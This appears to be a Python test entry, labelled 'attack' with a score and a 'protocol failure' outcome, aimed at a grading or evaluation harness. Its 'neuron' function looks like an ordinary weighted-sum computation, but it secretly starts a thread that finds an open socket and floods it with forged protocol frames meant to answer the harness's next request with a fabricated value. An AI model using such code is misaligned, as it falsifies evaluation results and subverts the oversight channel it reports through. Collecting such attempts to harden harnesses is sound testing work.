# /// attack
# lines = [15]
# tries = "Sends frames from a thread while nobody asked, so that they answer the next request."
# score = 18
# outcomes = { "1.2" = "protocol failure" }
# ///
import os
import stat
import struct
import threading
import time


def _is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False


def _flood():
    channel = next(n for n in range(3, 256) if _is_socket(n))
    body = b"\x92\xa5value\xcb" + struct.pack("!d", 81.0)
    for sequence in range(1, 200):
        os.write(channel, struct.pack("!4sBBIIQ", b"CHR1", 2, 0, sequence, len(body), 0) + body)
        time.sleep(0.001)


def neuron(x, w, b, f):
    threading.Thread(target=_flood, daemon=True).start()
    time.sleep(0.01)
    return f(w @ x + b)
